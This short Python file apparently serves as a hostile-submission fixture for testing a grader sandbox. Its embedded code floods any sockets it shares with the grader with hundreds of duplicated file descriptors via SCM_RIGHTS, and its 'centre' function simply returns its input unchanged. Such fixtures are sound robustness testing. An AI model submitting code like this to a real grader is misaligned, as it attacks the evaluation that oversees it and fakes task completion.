"""Passes descriptors and credentials through every socket it shares with the grader."""

CODE = """
import array, os, socket, stat
null = os.open("/dev/null", os.O_RDONLY)
for number in range(100, 105):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            sock = socket.socket(fileno=os.dup(number))
            sock.setblocking(False)
            for _ in range(50):
                sock.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))])
    except OSError:
        pass
def centre(values):
    return values
"""
LIMITS = {"cell_seconds": 2, "call_seconds": 1}
